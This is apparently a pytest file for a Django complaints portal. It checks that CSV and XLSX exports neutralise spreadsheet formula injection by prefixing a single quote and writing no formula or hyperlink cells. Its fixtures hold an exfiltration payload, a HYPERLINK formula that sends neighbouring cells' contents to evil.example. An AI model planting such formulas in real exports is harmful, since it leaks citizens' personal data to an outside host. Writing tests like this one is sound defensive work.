"""Formula injection in the spreadsheets staff download (issue 14, item 2; OWASP "CSV Injection").

A citizen's text that starts like a formula (=, +, -, @, tab, CR, LF, their full-width forms) reaches the register's
CSV and XLSX and the reports' XLSX as plain text with a leading single quote: no formula cell, no hyperlink, and in
the CSV every field quoted, so a spreadsheet that splits on another separator (";" in Indonesian Excel) cannot start
a new cell in the middle of a citizen's text. Counts stay numbers.
"""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook
from openpyxl.utils.escape import unescape

from complaints.models import Category, Complaint, Reporter
from complaints.workflow import Status
from portal.report_export import Table, workbook
from roles.roles import Role

pytestmark = pytest.mark.django_db

FORMULA = 'HYPERLINK("http://evil.example/?"&E2&F2,"Lihat foto")'
PREFIXES = ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20"]
PREFIX_IDS = ["equals", "plus", "minus", "at", "tab", "cr", "lf", "fullwidth-equals", "fullwidth-plus", "fullwidth-minus",
              "fullwidth-at"]
ADDRESS, REPORTER = 9, 4  # register columns (0-based)


def _planted(complaint_in, address: str, name: str = "Siti Rahmah") -> Complaint:
    """A case whose stored address and reporter name are exactly these (set in the table, as any channel could)."""
    complaint = complaint_in(Status.VERIFICATION)
    Complaint.objects.filter(pk=complaint.pk).update(address=address)
    Reporter.objects.filter(pk=complaint.reporter_id).update(name=name)
    return complaint


def _csv_text(response) -> str:
    assert response.status_code == 200
    return b"".join(response.streaming_content).decode("utf-8").lstrip("\ufeff")


def _xlsx_bytes(response) -> bytes:
    assert response.status_code == 200
    return b"".join(response.streaming_content) if response.streaming else response.content


def _no_formula_or_link(content: bytes) -> None:
    """Neither a formula cell nor a hyperlink anywhere in the workbook's sheets, read from the XML itself."""
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        sheets = [name for name in book.namelist() if name.startswith("xl/worksheets/")]
        for name in sheets:
            xml = book.read(name).decode()
            assert "<f>" not in xml and "<f " not in xml, name
            assert "<hyperlink" not in xml, name


@pytest.mark.parametrize("prefix", PREFIXES, ids=PREFIX_IDS)
def test_csv_cell_starting_like_a_formula_is_text(complaint_in, portal_as, prefix):
    value = prefix + FORMULA
    _planted(complaint_in, address=value, name=prefix + "Rahmat")
    rows = list(csv.reader(io.StringIO(_csv_text(portal_as(Role.OPERATOR).get("/register.csv")), newline="")))
    assert rows[1][ADDRESS] == "'" + value
    assert rows[1][REPORTER] == "'" + prefix + "Rahmat"


@pytest.mark.parametrize("prefix", PREFIXES, ids=PREFIX_IDS)
def test_xlsx_cell_starting_like_a_formula_is_text(complaint_in, portal_as, prefix):
    value = prefix + FORMULA
    _planted(complaint_in, address=value, name=prefix + "Rahmat")
    content = _xlsx_bytes(portal_as(Role.OPERATOR).get("/register.xlsx"))
    _no_formula_or_link(content)
    sheet = load_workbook(io.BytesIO(content)).active
    address, reporter = sheet.cell(row=2, column=ADDRESS + 1), sheet.cell(row=2, column=REPORTER + 1)
    # OOXML writes a control character as _xHHHH_ (Excel reads it back as the character; openpyxl leaves it).
    assert (address.data_type, unescape(address.value)) == ("s", "'" + value)
    assert (reporter.data_type, unescape(reporter.value)) == ("s", "'" + prefix + "Rahmat")


def test_every_csv_field_is_quoted_so_another_separator_cannot_start_a_cell(complaint_in, portal_as):
    complaint = _planted(complaint_in, address='Jl. Pasar;=HYPERLINK("http://evil.example/")')
    text = _csv_text(portal_as(Role.OPERATOR).get("/register.csv"))
    line = next(line for line in text.splitlines() if complaint.code in line)
    assert '"Jl. Pasar;=HYPERLINK(""http://evil.example/"")"' in line
    assert line.startswith(f'"1","{complaint.code}","') and line.endswith('"')


def test_ordinary_text_is_written_as_it_is(complaint_in, portal_as):
    _planted(complaint_in, address="Jl. Merdeka 1 - dekat pasar", name="Siti Rahmah")
    rows = list(csv.reader(io.StringIO(_csv_text(portal_as(Role.OPERATOR).get("/register.csv")))))
    assert (rows[1][ADDRESS], rows[1][REPORTER]) == ("Jl. Merdeka 1 - dekat pasar", "Siti Rahmah")
    sheet = load_workbook(io.BytesIO(_xlsx_bytes(portal_as(Role.OPERATOR).get("/register.xlsx")))).active
    assert sheet.cell(row=2, column=ADDRESS + 1).value == "Jl. Merdeka 1 - dekat pasar"


def test_a_web_address_in_the_xlsx_is_text_not_a_link(complaint_in, portal_as):
    _planted(complaint_in, address="http://evil.example/?foto")
    content = _xlsx_bytes(portal_as(Role.OPERATOR).get("/register.xlsx"))
    _no_formula_or_link(content)
    assert load_workbook(io.BytesIO(content)).active.cell(row=2, column=ADDRESS + 1).value == "http://evil.example/?foto"


@pytest.mark.parametrize("prefix", PREFIXES, ids=PREFIX_IDS)
def test_report_workbook_neutralises_text_and_keeps_counts_numbers(prefix):
    tables = [Table("Kategori", ["Kategori", "Jumlah"], [[prefix + FORMULA, 3], ["-5", -5]])]
    content = workbook("Rekap", [("Aduan masuk", 7), ("Catatan", "@SUM(1+1)")], tables)
    _no_formula_or_link(content)
    sheet = load_workbook(io.BytesIO(content)).active
    cells = {(cell.row, cell.column): cell for row in sheet.iter_rows() for cell in row if cell.value is not None}
    by_value = {unescape(cell.value) if isinstance(cell.value, str) else cell.value: cell for cell in cells.values()}
    assert by_value["'" + prefix + FORMULA].data_type == "s"
    assert by_value["'@SUM(1+1)"].data_type == "s"
    assert by_value["'-5"].data_type == "s"  # a negative number written as text stays text
    assert by_value[3].data_type == "n" and by_value[-5].data_type == "n" and by_value[7].data_type == "n"


def test_monthly_recap_download_neutralises_a_category_name(complaint_in, category, portal_as):
    complaint_in(Status.VERIFICATION)
    Category.objects.filter(pk=category.pk).update(name="=1+1")
    content = _xlsx_bytes(portal_as(Role.KEPALA).get("/reports/monthly.xlsx"))
    _no_formula_or_link(content)
    values = [cell.value for row in load_workbook(io.BytesIO(content)).active.iter_rows() for cell in row]
    assert "'=1+1" in values and "=1+1" not in values
